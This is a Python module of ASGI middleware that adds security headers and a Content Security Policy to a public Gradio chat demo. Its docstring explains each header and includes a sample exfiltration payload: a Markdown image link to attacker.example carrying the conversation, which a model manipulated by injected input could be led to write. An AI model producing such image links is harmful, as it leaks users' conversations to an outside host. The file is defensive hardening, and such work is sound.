"""Response headers for a public demo, added to every response the Gradio app sends.

    launch(..., app_kwargs={"middleware": [security_headers_middleware()]})

- `X-Content-Type-Options: nosniff`: browsers use the declared type, never a guessed one
  (a reply or upload cannot be turned into a script by content sniffing).
- `Referrer-Policy: strict-origin-when-cross-origin`: other sites (fonts, links a user
  follows) see only this origin, never the path and query, which for a `?share=` link
  hold the shared conversation.
- `X-Frame-Options: SAMEORIGIN` and CSP `frame-ancestors 'self'`: other sites cannot
  frame the page (clickjacking: making a user press Send or Vote unknowingly).
- CSP `img-src`/`media-src` 'self' data: blob:: the chat renders Markdown and sanitized
  HTML from users and models, images included. A reply a model was talked into writing
  (`![](https://attacker.example/?q=<the conversation>)`), or a shared link holding one,
  would make every viewer's browser send that URL out. Only this origin's images load.
- CSP `form-action 'self'`: no form on the page can post anywhere else (a phishing form
  in a shared link, were one to get past the Chatbot's escaping, cannot send a password
  out); `base-uri 'self'`, `object-src 'none'`: no `<base>` re-pointing relative URLs, no
  plugins.
- CSP `style-src-attr 'unsafe-hashes' 'sha256-...'`: `style="..."` attributes (and
  `setAttribute("style")`, `style.cssText`) are refused unless their value is one of the
  three in Gradio's own page template (on <html>, <body>, <gradio-app>; hashed from the
  installed template at start, ui/compat/gradio_internals.py), so content cannot make a
  full-window fixed overlay. Without those three hashes the browser logged three CSP
  errors on every load and the page sat a little higher; with `'unsafe-inline'` any
  attribute would pass. Hashes apply to attributes only with `'unsafe-hashes'` (CSP
  Level 3; MDN, "CSP: style-src-attr"). Setting single properties
  (`element.style.height = ...`) is not restricted by CSP, and that is how Gradio 6 sizes
  its components; it also injects `<style>` elements at run time (theme and component
  CSS), hence `style-src 'self' 'unsafe-inline'`, which applies to elements only once
  `style-src-attr` is given.

A plain ASGI middleware (not Starlette's BaseHTTPMiddleware, which buffers response
bodies): it only rewrites the start of each response, so streams stay streams. A header
the app already set is left as it is.
"""

from __future__ import annotations

import base64
import hashlib

from starlette.middleware import Middleware
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from ui.compat.gradio_internals import page_template_style_attributes
from ui.web.static_assets import GRADIO_BUILD_FILES


def style_attribute_sources() -> str:
    """The CSP source list for style attributes: Gradio's page template's only."""
    digests = (
        base64.b64encode(hashlib.sha256(value.encode()).digest()).decode()
        for value in page_template_style_attributes()
    )
    return " ".join(["'unsafe-hashes'", *(f"'sha256-{d}'" for d in digests)])


CONTENT_SECURITY_POLICY = (
    "frame-ancestors 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:; "
    "form-action 'self'; base-uri 'self'; object-src 'none'; "
    f"style-src 'self' 'unsafe-inline'; style-src-attr {style_attribute_sources()}"
)

SECURITY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"strict-origin-when-cross-origin"),
    (b"x-frame-options", b"SAMEORIGIN"),
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
)
# Gradio's own built scripts, styles and fonts (GRADIO_BUILD_FILES) never render as a
# document, so the headers that only documents use (CSP, framing, referrer) would be dead
# weight on each of the ~90 files a page loads: ~550 bytes apiece, 40 KB of a phone's first
# load. They keep nosniff.
BUILD_FILE_HEADERS = tuple(h for h in SECURITY_HEADERS if h[0] == b"x-content-type-options")


class SecurityHeaders:
    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        build_file = str(scope.get("path", "")).startswith(GRADIO_BUILD_FILES)
        added = BUILD_FILE_HEADERS if build_file else SECURITY_HEADERS

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                present = {name.lower() for name, _ in headers}
                headers += [(k, v) for k, v in added if k not in present]
                message["headers"] = headers
            await send(message)

        await self.app(scope, receive, send_with_headers)


def security_headers_middleware() -> Middleware:
    return Middleware(SecurityHeaders)
